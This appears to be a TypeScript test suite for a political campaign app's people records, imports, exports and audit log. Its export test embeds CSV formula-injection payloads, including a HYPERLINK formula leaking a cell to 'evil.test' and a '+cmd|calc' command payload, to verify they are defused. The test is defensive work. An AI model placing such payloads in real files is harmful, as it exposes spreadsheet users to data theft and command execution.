// People, saved lists, duplicates and merges, CSV import and export, and the audit log, through the
// API as each role: households by address, one holder per e-mail and phone, merges that keep the
// merged records and their history, imports matched to known people (dry run, per-row errors), exports
// with each role's fields (phone numbers as they are, formulas defused, read by SheetJS as a
// spreadsheet would), and every write in the audit log with who made it and the before and after.
import t from 'tap'
import XLSX from 'xlsx'
import { ServerFunctionError } from '../../../../plugins/campaign/client.js'
import type { Caller } from '../../../../plugins/campaign/functions.js'
import { Elections } from '../../../../plugins/campaign/modules/fundraising/elections.js'
import { donorId, Fundraising } from '../../../../plugins/campaign/modules/fundraising/fundraising.js'
import { PeopleDirectory } from '../../../../plugins/campaign/modules/people/directory.js'
import { volunteerFunctions } from '../../../../plugins/campaign/modules/volunteers/volunteers.js'
import { campaignApp, lmdbCampaignStore, onSharedBackends, statusOf } from '../../../support/campaign.js'

interface Person { person_id: string, name: string, email?: string, phone?: string, household_id?: string | null, tags: string[], roles: string[], merged_from: string[], consent?: Record<string, boolean>, custom?: Record<string, string> }
interface Report { created: number, updated: number, duplicates_in_file: number, failed: number, errors: Array<{ row: number, message: string }>, mapping: Record<string, string | null>, preview: Array<Record<string, unknown>> }
interface AuditEntry { by: string, role: string, function: string, table: string, key: string, change: string, before: Record<string, unknown> | null, after: Record<string, unknown> | null }

t.test('people through the API', async t => {
  const { baseUrl, login, call } = await campaignApp(t, { contribution_limit_cents: 100_000 })
  const [admin, readonly, volunteer] = [await login('admin'), await login('readonly'), await login('volunteer')]
  const exported = async (path: string, cookie?: string): Promise<Response> => await fetch(new URL(path, baseUrl), { headers: cookie === undefined ? {} : { cookie } })

  const ana = await call<Person>('save-person', { name: 'Ana Diaz', email: 'Ana@X.test', phone: '+1 (555) 010-2000', address: '12 Elm St', postcode: '90210', city: 'Springfield', tags: ['canvasser', 'housing'], issues: ['rent'], consent: { email: true, sms: false }, custom: { shirt_size: 'M' } })
  const ben = await call<Person>('save-person', { name: 'Ben Diaz', email: 'ben@x.test', address: '12 elm st.', postcode: '90210', city: 'Springfield', tags: ['housing'], consent: { email: true } })
  const cy = await call<Person>('save-person', { name: 'Cy Young', phone: '+1 555 010 3000', city: 'Shelbyville', tags: ['donor-prospect'] })

  await t.test('households, one holder per address, and each role\'s fields', async t => {
    t.equal(ana.email, 'ana@x.test', 'e-mail kept lower-cased')
    t.equal(ana.phone, '+15550102000', 'phone kept as + and digits')
    t.ok(ana.household_id?.startsWith('hh-'))
    t.equal(ben.household_id, ana.household_id, 'the same address spelled otherwise is one household')
    const detail = await call<{ household: Person[] }>('person-detail', { person_id: ana.person_id })
    t.same(detail.household.map(p => p.name), ['Ben Diaz'])
    const taken = await call('save-person', { name: 'Another Ana', email: 'ana@x.test' }).catch((err: unknown) => err)
    t.match(taken, ServerFunctionError)
    t.match(taken, { status: 409, code: 'BERTH_DUPLICATE_PERSON', message: /Ana Diaz/ })
    t.equal(await statusOf(call('save-person', { name: 'Bad', phone: 'call me' })), 400)
    const seen = await call<{ person: Person }>('person-detail', { person_id: ana.person_id }, readonly)
    t.same(Object.keys(seen.person).sort(), ['city', 'created_at', 'issues', 'last_activity_at', 'merged_from', 'name', 'person_id', 'roles', 'tags', 'updated_at'], 'readonly sees no address, phone, consent or custom fields')
    t.equal(await statusOf(call('list-people', {}, volunteer)), 403, 'volunteers do not browse people')
    t.equal(await statusOf(call('save-person', { name: 'X' }, readonly)), 403, 'readonly does not write')
  })

  await t.test('saved lists are filters evaluated when read', async t => {
    const list = await call<{ list_id: string, count: number }>('save-list', { name: 'Springfield housing', filter: { tags: ['housing'], cities: ['springfield'] } })
    t.equal(list.count, 2)
    const emailable = await call<{ total: number, people: Person[] }>('list-people', { list_id: list.list_id, filter: { consent: 'email' } })
    t.same(emailable.people.map(p => p.name), ['Ana Diaz', 'Ben Diaz'])
    await call('save-person', { person_id: ben.person_id, name: 'Ben Diaz', consent: { do_not_contact: true } })
    t.same((await call<{ people: Person[] }>('list-people', { list_id: list.list_id, filter: { consent: 'email' } })).people.map(p => p.name), ['Ana Diaz'], 'do-not-contact leaves a consent list')
    t.match(await call('list-lists', {}, readonly), { lists: [{ name: 'Springfield housing', count: 2 }] })
    const paged = await call<{ total: number, people: Person[], next_cursor: string | null }>('list-people', { limit: 2 })
    t.equal(paged.total, 3)
    t.equal(paged.people.length, 2)
    t.same((await call<{ people: Person[] }>('list-people', { limit: 2, cursor: paged.next_cursor ?? undefined })).people.map(p => p.name), ['Cy Young'])
  })

  await t.test('duplicates are found and merged with their history kept', async t => {
    const twin = await call<Person>('save-person', { name: 'ana  diaz', email: 'ana.diaz@work.test', postcode: '90210', tags: ['phonebank'], consent: { email: true }, custom: { employer: 'Acme' } })
    const { groups } = await call<{ groups: Person[][] }>('find-duplicates', {})
    t.same(groups.map(g => g.map(p => p.person_id).sort()), [[ana.person_id, twin.person_id].sort()])
    const merged = await call<Person>('merge-people', { keep_id: ana.person_id, merge_ids: [twin.person_id] })
    t.same(merged.tags, ['canvasser', 'housing', 'phonebank'])
    t.same(merged.custom, { employer: 'Acme', shirt_size: 'M' })
    t.same(merged.merged_from, [twin.person_id])
    const viaOld = await call<{ person: Person, history: AuditEntry[] }>('person-detail', { person_id: twin.person_id })
    t.equal(viaOld.person.person_id, ana.person_id, 'the merged id leads to the person kept')
    t.ok(viaOld.history.some(e => e.key === twin.person_id && e.change === 'create'), 'the merged record\'s history is kept')
    t.ok(viaOld.history.some(e => e.key === twin.person_id && e.function === 'merge-people' && (e.after as { merged_into?: string }).merged_into === ana.person_id))
    t.equal(await statusOf(call('save-person', { name: 'Ana', email: 'ana.diaz@work.test' })), 409, 'the merged address belongs to the person kept')
    t.equal(await statusOf(call('merge-people', { keep_id: ana.person_id, merge_ids: [ana.person_id] })), 400)
  })

  await t.test('CSV import: mapping suggested, dry run writes nothing, rows matched by e-mail and phone', async t => {
    const csv = [
      'Full Name,E-mail,Mobile,Zip,Tags,Email Opt-In,Shirt size',
      'Ana Diaz,ana@x.test,,90210,volunteer,yes,L',
      'Dee Dee,dee@x.test,555-010-4000,90211,"housing; transit",no,S',
      'Cy Young,,+15550103000,,donor,,',
      'No Mail,not-an-address,,,,,',
      ',nobody@x.test,,,,,',
      'Dee Again,DEE@x.test,,,,maybe,',
      'Dee Twice,dee@x.test,,,parks,1,'
    ].join('\n')
    const dry = await call<Report>('import-csv', { kind: 'people', csv })
    t.same(dry.mapping, { 'Full Name': 'name', 'E-mail': 'email', Mobile: 'phone', Zip: 'postcode', Tags: 'tags', 'Email Opt-In': 'consent_email', 'Shirt size': 'custom:shirt_size' })
    t.match(dry, { created: 1, updated: 2, duplicates_in_file: 1, failed: 3 })
    t.same(dry.errors, [
      { row: 5, message: 'email "not-an-address" is not an e-mail address' },
      { row: 6, message: 'no name' },
      { row: 7, message: 'consent_email must be yes or no, got "maybe"' }
    ])
    t.equal((await call<{ total: number }>('list-people', {})).total, 3, 'a dry run writes nothing')
    const done = await call<Report>('import-csv', { kind: 'people', csv, dry_run: false })
    t.match(done, { created: 1, updated: 2, duplicates_in_file: 1, failed: 3 })
    const people = (await call<{ people: Person[] }>('list-people', {})).people
    t.same(people.map(p => p.name), ['Ana Diaz', 'Ben Diaz', 'Cy Young', 'Dee Twice'])
    const dee = people.find(p => p.name === 'Dee Twice') as Person
    t.same(dee.tags, ['housing', 'transit', 'parks'], 'a later row of the same person adds to the first')
    t.equal(people.find(p => p.name === 'Ana Diaz')?.custom?.shirt_size, 'L', 'the file\'s cells win')
    t.ok(people.find(p => p.name === 'Cy Young')?.tags.includes('donor'), 'matched by phone')
    t.equal(await statusOf(call('import-csv', { kind: 'people', csv: 'a,b\n"unclosed,1' })), 400)
    t.equal(await statusOf(call('import-csv', { kind: 'people', csv, mapping: { Nope: 'name' } })), 400)
    t.equal(await statusOf(call('import-csv', { kind: 'people', csv, mapping: { 'Full Name': 'salary' } })), 400)
    t.equal(await statusOf(call('import-csv', { kind: 'people', csv }, readonly)), 403)
  })

  await t.test('volunteers and donations import as people with roles', async t => {
    const volunteers = await call<Report>('import-csv', { kind: 'volunteers', dry_run: false, csv: 'name,email,skills,availability,lat,lon\nVal Vee,val@x.test,canvassing;phone,sat-am,52.5,13.4\nBad Slot,bad@x.test,,someday,52,13\n' })
    t.match(volunteers, { created: 1, failed: 1, errors: [{ row: 3, message: /someday/ }] })
    const donationsCsv = 'name,email,amount,date,address,occupation,employer\nDora Donor,dora@x.test,"$1,000.00",2026-01-05,1 Main St,Nurse,City Hospital\nDora Donor,dora@x.test,950,2026-01-06,,,\nZed,zed@x.test,-5,2026-01-06,,,\n'
    const dry = await call<Report>('import-csv', { kind: 'donations', csv: donationsCsv })
    t.match(dry, { created: 1, failed: 2, errors: [{ row: 3, message: /limit/ }, { row: 4, message: /positive/ }] }, 'a dry run checks the limit too, counting the file\'s rows before each')
    t.notOk((await call<{ donors: Array<{ email: string }> }>('list-donors', {})).donors.some(d => d.email === 'dora@x.test'), 'and records nothing')
    const gifts = await call<Report>('import-csv', { kind: 'donations', dry_run: false, csv: donationsCsv })
    t.match(gifts, { created: 1, failed: 2 })
    t.match(gifts.errors, [{ row: 3, message: /limit/ }, { row: 4, message: /positive/ }], 'the contribution limit is checked per row')
    await call('save-volunteer', { name: 'Walt Both', email: 'walt@x.test', location: { lat: 52.5, lon: 13.4 } })
    await call('record-donation', { donor_name: 'Walt Both', donor_email: 'WALT@x.test', amount_cents: 5000 })
    const roles = Object.fromEntries((await call<{ people: Person[] }>('list-people', { filter: { roles: ['volunteer', 'donor'] } })).people.map(p => [p.name, p.roles]))
    t.same(roles, { 'Dora Donor': ['donor'], 'Val Vee': ['volunteer'], 'Walt Both': ['donor', 'volunteer'] }, 'volunteers and donors saved through their modules are people too')
    const walt = (await call<{ volunteers: Array<{ volunteer_id: string, name: string }> }>('list-volunteers', {})).volunteers.find(v => v.name === 'Walt Both')
    await call('delete-volunteer', { volunteer_id: walt?.volunteer_id ?? '' })
    const after = (await call<{ people: Person[] }>('list-people', { filter: { search: 'walt' } })).people
    t.same(after.map(p => p.roles), [['donor']], 'off the roster: still a person and a donor, no longer a volunteer')
    t.equal(await statusOf(call('delete-volunteer', { volunteer_id: walt?.volunteer_id ?? '' })), 404)
  })

  await t.test('exports stream each role\'s fields, and read back in', async t => {
    const staffCsv = await exported('/export/people', await login('staff'))
    t.equal(staffCsv.status, 200)
    t.match(staffCsv.headers.get('content-type'), /^text\/csv/)
    const text = await staffCsv.text()
    const [header] = text.split('\n')
    t.match(header, /^person_id,name,city,tags,issues,roles,merged_from,created_at,updated_at,last_activity_at,email,phone,address,postcode,household_id,custom:employer,custom:shirt_size,consent_email,consent_sms,do_not_contact/)
    const again = await call<Report>('import-csv', { kind: 'people', csv: text, mapping: Object.fromEntries(header.split(',').map(c => [c, ['name', 'email', 'phone', 'address', 'city', 'postcode', 'tags', 'issues', 'consent_email', 'consent_sms', 'do_not_contact'].includes(c) || c.startsWith('custom:') ? c : null])) })
    t.match(again, { created: 0, failed: 0 }, 'an export imports back onto the same people')
    const readerCsv = await (await exported('/export/people?format=ndjson', readonly)).text()
    t.notMatch(readerCsv, /@x\.test|\+1555/, 'readonly exports carry no addresses or phones')
    t.equal((await exported('/export/people', volunteer)).status, 403)
    t.equal((await exported('/export/people')).status, 401)
    t.equal((await exported('/export/people?format=xml', admin)).status, 400)
    t.equal((await exported('/export/payroll', admin)).status, 404)
    const volunteersCsv = await (await exported('/export/volunteers', volunteer)).text()
    t.match(volunteersCsv.split('\n')[0], /^volunteer_id,name,skills,availability,updated_at\r?$/, 'volunteers export without e-mail or place for a volunteer')
    const donations = await (await exported('/export/donations', readonly)).text()
    t.match(donations, /100000/)
    t.notMatch(donations, /recorded_by|staff@/)
  })

  await t.test('shifts, their rosters and the send log export with each role\'s fields', async t => {
    const startsAt = new Date(Date.now() + 86_400_000)
    const event = await call<{ shifts: Array<{ shift_id: string }> }>('save-event', { title: 'Export canvass', location: { text: 'Hall', lat: 52.5, lon: 13.4 }, shifts: [{ starts_at: startsAt.toISOString(), ends_at: new Date(startsAt.getTime() + 7_200_000).toISOString(), capacity: 3 }] })
    await call('rsvp-shift', { shift_id: event.shifts[0].shift_id }, volunteer)
    const shifts = await (await exported('/export/shifts', volunteer)).text()
    t.match(shifts.split('\n')[0], /^event_id,title,shift_id,starts_at,ends_at,capacity,skills,cancelled,confirmed_count,free,waitlist_count\r?$/)
    t.match(shifts, new RegExp(`Export canvass,${event.shifts[0].shift_id},.*,3,,no,1,2,0`), 'everyone sees the counts')
    t.notMatch(shifts, /@/)
    t.equal((await exported('/export/rsvps', volunteer)).status, 403, 'rosters are staff\'s')
    const rsvps = await (await exported('/export/rsvps', await login('staff'))).text()
    t.match(rsvps, /volunteer@campaign\.test,confirmed/)
    const log = await exported('/export/send-log', readonly)
    t.equal(log.status, 200)
    t.equal((await log.text()).split('\n')[0].trim(), 'send_id,channel,person_id,purpose,status,message_id,at', 'readonly: no address, answer or sender')
    t.equal((await exported('/export/send-log', volunteer)).status, 403)
  })

  await t.test('the audit log records every write with who and the before and after', async t => {
    t.equal(await statusOf(call('audit-log', {})), 403, 'staff do not read the audit log')
    const { entries } = await call<{ entries: AuditEntry[] }>('audit-log', { table: 'people', limit: 500 }, admin)
    const benEdit = entries.find(e => e.key === ben.person_id && e.change === 'update' && e.function === 'save-person')
    t.match(benEdit, { by: 'staff@campaign.test', role: 'staff', before: { consent: { do_not_contact: false } }, after: { consent: { do_not_contact: true } } })
    const count = async (): Promise<number> => (await call<{ entries: AuditEntry[] }>('audit-log', { limit: 500 }, admin)).entries.length
    const before = await count()
    t.match(await call('import-csv', { kind: 'people', csv: 'name,email\nAborted One,aborted@x.test\nCy Young,,\n' }), { created: 2 })
    t.equal(await count(), before, 'a transaction abandoned after its writes (a dry run) leaves no entry: the entries are written in it')
    t.equal(await statusOf(call('merge-people', { keep_id: ben.person_id, merge_ids: [cy.person_id, 'no-such-person'] })), 404)
    t.equal(await count(), before, 'nor does a refused write')
    await call('delete-person', { person_id: cy.person_id })
    t.equal(await statusOf(call('person-detail', { person_id: cy.person_id })), 404)
    const deleted = (await call<{ entries: AuditEntry[] }>('audit-log', { table: 'people', limit: 1 }, admin)).entries[0]
    t.match(deleted, { function: 'delete-person', change: 'delete', key: cy.person_id, before: { name: 'Cy Young' }, after: null })
    const donation = (await call<{ entries: AuditEntry[] }>('audit-log', { table: 'donations', limit: 5 }, admin)).entries
    t.match(donation, [{ function: 'record-donation', change: 'create', after: { amount_cents: 5000 } }, { function: 'import-csv', change: 'create', after: { amount_cents: 100000 } }])
    const page = await call<{ entries: AuditEntry[], next_cursor: string }>('audit-log', { limit: 2 }, admin)
    const next = await call<{ entries: AuditEntry[] }>('audit-log', { limit: 2, cursor: page.next_cursor }, admin)
    t.equal(new Set([...page.entries, ...next.entries].map(e => JSON.stringify(e))).size, 4, 'pages do not overlap')
    const auditCsv = await exported('/export/audit?table=people', admin)
    t.equal(auditCsv.status, 200)
    t.match(await auditCsv.text(), /delete-person/)
    t.equal((await exported('/export/audit', await login('staff'))).status, 403)
    const tokens = (await call<{ entries: AuditEntry[] }>('audit-log', { table: 'api-tokens' }, admin)).entries
    t.same(tokens, [], 'no token was made yet')
    await call('admin-create-api-token', { name: 'audited', role: 'readonly' }, admin)
    const [made] = (await call<{ entries: AuditEntry[] }>('audit-log', { table: 'api-tokens' }, admin)).entries
    t.match(made, { by: 'admin@campaign.test', after: { name: 'audited', hash: '[redacted]' } }, 'a token\'s hash is not in the log')
  })

  // The body limit is the server's, whatever the backend; on PostgreSQL 12,000 rows would take 18 s.
  if (onSharedBackends()) return
  await t.test('the import takes a larger body than other functions', async t => {
    const big = `name,email\n${Array.from({ length: 12_000 }, (_, i) => `Person ${i},p${i}@bulk.test`).join('\n')}\n`
    t.ok(big.length > 262_144)
    t.match(await call('import-csv', { kind: 'people', csv: big }), { created: 12_000, failed: 0 })
    t.equal(await statusOf(call('save-person', { name: 'x'.repeat(10), tags: [big.slice(0, 300_000)] })), 413, 'other functions keep the usual limit')
  })
})

t.test('exports write E.164 phone numbers as they are and defuse formulas: import, export, import again, and a spreadsheet reader', async t => {
  const { baseUrl, call, staff } = await campaignApp(t)
  const note = '=HYPERLINK("http://evil.test/?leak="&A2,"click")'
  const csv = [
    'name,email,phone,note',
    `Ana Diaz,ana@x.test,+1 (555) 123-4567,"${note.replaceAll('"', '""')}"`,
    'Ben Okafor,ben@x.test,0044 20 7946 0958,-2+3',
    'Cy Short,cy@x.test,+123456,@SUM(1+1)',
    '+cmd|calc,dee@x.test,5550100,plain'
  ].join('\n')
  t.match(await call('import-csv', { kind: 'people', csv, dry_run: false }), { created: 4, failed: 0 })
  type Row = Pick<Person, 'name' | 'email' | 'phone' | 'custom'>
  const stored = async (): Promise<Row[]> => (await call<{ people: Person[] }>('list-people', {})).people.map(({ name, email, phone, custom }) => ({ name, email, phone, custom }))
  const before = await stored()
  t.same(before.map(p => p.phone), ['+5550100', '+15551234567', '+442079460958', '+123456'], 'stored as + and digits')

  const exported = await (await fetch(new URL('/export/people', baseUrl), { headers: { cookie: staff } })).text()
  t.match(exported, /,\+15551234567,/, 'an E.164 number is written as it is')
  t.match(exported, /,\+442079460958,/)
  t.match(exported, /,\+5550100,/)
  t.notMatch(exported, /'\+1555|'\+44/, 'no apostrophe before an E.164 number')
  t.match(exported, /,'\+123456,/, 'six digits is not E.164: defused like any cell starting with +')
  t.match(exported, /"'=HYPERLINK\(/, 'a formula is defused')
  t.match(exported, /,'-2\+3,/)
  t.match(exported, /,'@SUM\(1\+1\),/)
  t.match(exported, /,'\+cmd\|calc,/)

  const header = exported.split('\n')[0].trim().split(',')
  const mapping = Object.fromEntries(header.map(column => [column, ['name', 'email', 'phone'].includes(column) || column.startsWith('custom:') ? column : null]))
  t.match(await call('import-csv', { kind: 'people', csv: exported, mapping, dry_run: false }), { created: 0, updated: 4, failed: 0 })
  t.same(await stored(), before, 'imported again: every phone, name and cell as it was')

  // A spreadsheet reader on the file: SheetJS guessing types as a spreadsheet opening a CSV does, and reading every cell as text.
  const guessed = XLSX.read(exported, { type: 'string' })
  const sheet = guessed.Sheets[guessed.SheetNames[0]]
  const column = (name: string): string => XLSX.utils.encode_col(header.indexOf(name))
  const rowOf = (who: string): number => (XLSX.utils.sheet_to_json<Record<string, unknown>>(sheet, { raw: false }).findIndex(r => r.name === who || r.name === `'${who}`)) + 2
  const cell = (who: string, name: string): XLSX.CellObject => sheet[`${column(name)}${rowOf(who)}`] as XLSX.CellObject
  const formulas = Object.entries(sheet).filter(([address, c]) => !address.startsWith('!') && (c as XLSX.CellObject).f !== undefined)
  t.same(formulas, [], 'no cell of the export reads as a formula')
  t.match(cell('Ana Diaz', 'custom:note'), { t: 's', v: `'${note}` }, 'the HYPERLINK payload reads as text')
  t.match(cell('Ana Diaz', 'phone'), { t: 'n', v: 15551234567, w: '+15551234567' }, 'guessing types, the phone is a number shown as +15551234567, not a formula')
  const asText = XLSX.read(exported, { type: 'string', raw: true })
  const textSheet = asText.Sheets[asText.SheetNames[0]]
  for (const [who, phone] of [['Ana Diaz', '+15551234567'], ['Ben Okafor', '+442079460958'], ['+cmd|calc', '+5550100']]) {
    t.match(textSheet[`${column('phone')}${rowOf(who)}`], { t: 's', v: phone }, `read as text, ${who}'s phone is ${phone} exactly`)
  }
})

t.test('a roster entry or a donation and its person are written together: a failed person write leaves neither', async t => {
  const store = lmdbCampaignStore(t)
  // The fault: the person's write fails after the roster entry or the donation was put in the same transaction.
  class FailingPeople extends PeopleDirectory {
    failing = true
    override async ensureIn (...args: Parameters<PeopleDirectory['ensureIn']>): ReturnType<PeopleDirectory['ensureIn']> {
      if (this.failing) throw new Error('the people table could not be written')
      return await super.ensureIn(...args)
    }
  }
  const people = new FailingPeople(store)
  const caller = { session: { email: 'staff@campaign.test', role: 'staff' } } as unknown as Caller
  const functions = new Map(volunteerFunctions(store, undefined, people).map(fn => [fn.name, fn]))
  const saveVolunteer = async (): Promise<unknown> => await functions.get('save-volunteer')?.handler({ name: 'Vera Volunteer', email: 'vera@x.test', skills: [], availability: [] }, caller)
  await t.rejects(saveVolunteer(), /could not be written/)
  t.same(await store.table('volunteers').list(), [], 'no roster entry without its person')
  const fundraising = new Fundraising(store, { limitCents: 350_000, itemizeAboveCents: 20_000, elections: new Elections([]) })
  const record = async (): Promise<unknown> => await fundraising.record({ donor_name: 'Dan Donor', donor_email: 'dan@x.test', amount_cents: 5_000, received_on: '2026-11-02', election: null }, 'staff@campaign.test', people.withRole({ name: 'Dan Donor', email: 'dan@x.test' }, 'donor', 'staff@campaign.test'))
  await t.rejects(record(), /could not be written/)
  t.same(await fundraising.donations(donorId('dan@x.test')), [], 'no donation without its person')

  people.failing = false
  await saveVolunteer()
  await record()
  t.same((await people.byEmail('vera@x.test'))?.roles, ['volunteer'], 'once the write succeeds, the volunteer is a person with the role')
  t.same((await people.byEmail('dan@x.test'))?.roles, ['donor'], 'and the donor')
  t.equal((await store.table('volunteers').list()).length, 1)
  t.equal((await fundraising.donations(donorId('dan@x.test'))).length, 1)
})
